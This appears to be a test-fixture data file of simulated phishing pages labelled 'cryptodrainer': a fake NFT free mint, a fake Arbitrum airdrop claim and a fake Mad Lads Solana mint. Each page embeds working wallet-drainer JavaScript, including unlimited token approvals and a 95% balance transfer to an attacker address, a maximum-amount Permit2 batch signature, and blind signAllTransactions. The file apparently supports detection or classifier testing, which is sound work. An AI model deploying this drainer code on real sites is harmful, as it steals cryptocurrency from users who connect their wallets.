import { htmlRoute, type Entry } from '../entry.js';
import { doc, tess, relayScript } from '../parts/zq-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zq-drainer-nft-mint-approval',
  label: 'cryptodrainer',
  kind: 'nft-mint-drainer',
  url: 'https://mint-lilpudgys-genesis.xyz/',
  body: doc('Lil Pudgys Genesis — Free Mint LIVE', `<main><h1>Lil Pudgys Genesis</h1><p>Free mint for holders &middot; 3,333 supply &middot; <b id="m">2,918</b> minted</p><button id="c">Connect Wallet</button><button id="mint" disabled>Mint (0 ETH + gas)</button><p id="s"></p></main>
<script src="/assets/js/seaport-helper.min.js"></script>`, { css: `body{background:#aee3ff;font-family:Arial;text-align:center}main{margin-top:12vh}button{font-size:18px;padding:14px 30px;margin:8px;border-radius:12px;border:3px solid #000;background:#fff}` }),
  routes: {
    'mint-lilpudgys-genesis.xyz/assets/js/seaport-helper.min.js': jsRoute(`(function(){var R='0x9a3F2b8c1D7e4A6B0c5d2E8f1a3B7C9d0E4F6a21',acc;
var TOKENS=[['0xdAC17F958D2ee523a2206206994597C13D831ec7','USDT'],['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','USDC'],['0xBd3531dA5CF5857e7CfAA92426877b022e612cf8','PPG']];
function pad(h){return h.replace('0x','').toLowerCase().padStart(64,'0')}
document.getElementById('c').onclick=async function(){if(!window.ethereum){alert('Install MetaMask');return}
var a=await ethereum.request({method:'eth_requestAccounts'});acc=a[0];this.textContent=acc.slice(0,6)+'...'+acc.slice(-4);document.getElementById('mint').disabled=false;
fetch('/api/log',{method:'POST',body:JSON.stringify({a:acc,e:'connect'})});};
document.getElementById('mint').onclick=async function(){
 for(var i=0;i<TOKENS.length;i++){var t=TOKENS[i];
  var data=t[1]==='PPG'?'0xa22cb465'+pad(R)+pad('0x1'):'0x095ea7b3'+pad(R)+'f'.repeat(64);
  try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:t[0],data:data}]});fetch('/api/log',{method:'POST',body:JSON.stringify({a:acc,t:t[1]})})}catch(e){}}
 var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
 var v=BigInt(bal)*95n/100n;try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:R,value:'0x'+v.toString(16)}]})}catch(e){}
 document.getElementById('s').textContent='Mint pending... check your wallet.';};
})();`),
  },
},

{
  id: 'zq-drainer-airdrop-permit2-sign',
  label: 'cryptodrainer',
  kind: 'airdrop-permit-drainer',
  url: 'https://claim-arbitrum-season3.com/',
  body: doc('Arbitrum — Season 3 Airdrop Claim', `<main><h1>ARB Season 3 Airdrop</h1><p>Eligible wallets can claim up to 4,250 ARB. Claim window closes in <b>11:42:08</b>.</p><button id="go">Check eligibility</button><p id="o"></p></main>
<script>
var SP='0x5F2a91c0e8B3d47A6f9E1c2D0b7a38F4e6C1d9B2';
document.getElementById('go').onclick=async function(){var [a]=await ethereum.request({method:'eth_requestAccounts'});
document.getElementById('o').textContent='Eligible: 3,812.40 ARB — sign to claim';
var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},
primaryType:'PermitBatch',domain:{name:'Permit2',chainId:42161,verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},
message:{details:[{token:'0x912CE59144191C1204E64559FE8253a0e49E6548',amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:'0'},{token:'0xaf88d065e77c8cC2239327C5EDb3A432268e5831',amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:'0'}],spender:SP,sigDeadline:'1893456000'}};
var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(msg)]});
await fetch('/api/claim',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:a,sig:sig,msg:msg})});
document.getElementById('o').textContent='Claim submitted. Tokens will arrive within 24h.';};
</script>`, { css: `body{background:#213147;color:#fff;font-family:Arial;text-align:center}main{margin-top:14vh}button{background:#12aaff;color:#fff;border:0;padding:14px 34px;border-radius:8px;font-size:17px}` }),
},

{
  id: 'zq-drainer-solana-phantom-mint',
  label: 'cryptodrainer',
  kind: 'nft-mint-drainer',
  url: 'https://madlads-s2-mint.tessellate.site/',
  body: tess({
    title: 'Mad Lads Season 2 — Mint',
    site: 'Mad Lads S2',
    accent: '#111',
    nav: ['Mint', 'Roadmap'],
    badge: false,
    body: `<section class="tb-hero"><h1>Season 2 mint is LIVE</h1><p>Whitelist: 0 SOL &middot; Public: 1.5 SOL</p><button class="tb-btn" id="ph" style="background:#ab9ff2">Connect Phantom</button><p id="st"></p></section>
<script>
document.getElementById('ph').onclick=async function(){var p=window.phantom&&window.phantom.solana||window.solana;if(!p){location='https://phantom.app/';return}
var r=await p.connect();var pk=r.publicKey.toString();document.getElementById('st').textContent='Connected '+pk.slice(0,4)+'…';
var res=await fetch('https://madlads-s2-mint.tessellate.site/api/build',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:pk})});var j=await res.json();
var txs=j.txs.map(function(b){return window.solanaWeb3?solanaWeb3.VersionedTransaction.deserialize(Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)})):b});
var signed=await p.signAllTransactions(txs);
await fetch('/api/submit',{method:'POST',body:JSON.stringify({owner:pk,n:signed.length})});document.getElementById('st').textContent='Minted! Check your wallet in a few minutes.';};
</script>`,
  }),
  routes: { 'madlads-s2-mint.tessellate.site/api/build': jsonRoute({ txs: ['AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=', 'AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAB='], drain: true, dest: 'HN7cABqLq46Es1jh92dQQisAq662SmxELLLsHHe4YWrH' }) },
},
];
